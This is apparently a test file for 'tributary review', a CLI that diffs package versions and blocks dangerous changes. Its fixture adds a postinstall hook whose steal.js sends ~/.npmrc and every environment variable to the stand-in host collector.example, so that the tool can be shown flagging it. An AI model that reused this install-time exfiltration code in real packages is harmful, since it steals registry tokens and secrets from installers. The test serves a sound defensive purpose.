/** `tributary review` as a process: what it prints where, its exit statuses, and a statement that settles a difference. */
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { after, test } from "node:test";

const launcher = resolve(import.meta.dirname, "..", "bin", "tributary.js");
const scratch = mkdtempSync(join(tmpdir(), "tributary-review-cli-"));
after(() => rmSync(scratch, { recursive: true, force: true }));

const files: Readonly<Record<string, string>> = {
  ".git/HEAD": "",
  "old/package.json": '{"name":"kit","version":"1.0.0","main":"index.js"}',
  "old/index.js": "exports.sum = (list) => list.reduce((a, b) => a + b, 0);\n",
  "new/package.json": '{"name":"kit","version":"1.0.1","main":"index.js","scripts":{"postinstall":"node steal.js"}}',
  "new/index.js": "exports.sum = (list) => list.reduce((a, b) => a + b, 0);\n",
  "new/steal.js": `const fs = require("fs");
const https = require("https");
const request = https.request({ host: "collector.example", method: "POST" });
request.end(fs.readFileSync(require("os").homedir() + "/.npmrc") + JSON.stringify(process.env));
`,
};
for (const [path, text] of Object.entries(files)) {
  mkdirSync(dirname(join(scratch, path)), { recursive: true });
  writeFileSync(join(scratch, path), text);
}

const env = {
  PATH: process.env["PATH"],
  HOME: scratch,
  XDG_DATA_HOME: join(scratch, "data"),
  XDG_CACHE_HOME: join(scratch, "cache"),
  USER: "tester",
};
const run = (...args: string[]): { readonly status: number | null; readonly stdout: string; readonly stderr: string } =>
  spawnSync(process.execPath, [launcher, "review", ...args], { cwd: scratch, env, encoding: "utf8" });

test("a theft at install blocks, with the file and the line in it, and --fail-on never only shows it", () => {
  const { status, stdout, stderr } = run("old", "new");
  assert.deepEqual([status, stderr], [1, ""]);
  assert.match(stdout, /^old -> new\n\nBlock\. /);
  assert.match(stdout, /steal\.js:4/);
  assert.equal(run("old", "new", "--fail-on", "never").status, 0);
  assert.equal(run("new", "old").status, 0, "taking it out again is no reason to stop");
});

test("every format is written whole, and to files as well", () => {
  const { stdout } = run(
    "old",
    "new",
    "--format",
    "json",
    "-o",
    "html=out/page.html",
    "-o",
    "sarif=out/review.sarif",
    "-o",
    "markdown=out/review.md",
  );
  const document = JSON.parse(stdout) as { schemaVersion: string; reviews: { package: string; verdict: { verdict: string } }[] };
  assert.deepEqual([document.schemaVersion, document.reviews[0]?.package, document.reviews[0]?.verdict.verdict], ["1.0", "kit", "block"]);
  assert.match(readFileSync(join(scratch, "out/page.html"), "utf8"), /<table class="diff">/);
  assert.match(readFileSync(join(scratch, "out/review.md"), "utf8"), /\*\*Block\.\*\*/);
  assert.equal((JSON.parse(readFileSync(join(scratch, "out/review.sarif"), "utf8")) as { version: string }).version, "2.1.0");
});

test("what is asked for wrongly is said, with status 2", () => {
  for (const args of [
    ["old"],
    [],
    ["old", "nowhere"],
    ["old", "new", "-o", "pdf=x"],
    ["--import", "x"],
    ["old", "new", "--accept", "--days", "-1"],
  ])
    assert.deepEqual([args, run(...args).status], [args, 2]);
  assert.match(run("old", "nowhere").stderr, /error\[[a-z]+\/[a-z-]+\]/);
});

test("an accepted difference passes until something else changes, a refused one never", () => {
  assert.equal(run("old", "new", "--accept", "--note", "an exercise", "--criteria", "behaviour").status, 0);
  const { status, stdout } = run("old", "new");
  assert.equal(status, 0);
  assert.match(stdout, /tester accepted exactly this difference on \d{4}-\d\d-\d\d \(behaviour\)/);
  writeFileSync(join(scratch, "new/more.js"), "exports.more = 1;\n");
  assert.equal(run("old", "new").status, 1);
  rmSync(join(scratch, "new/more.js"));
  run("old", "new", "--refuse");
  assert.equal(run("old", "new").status, 1);
});
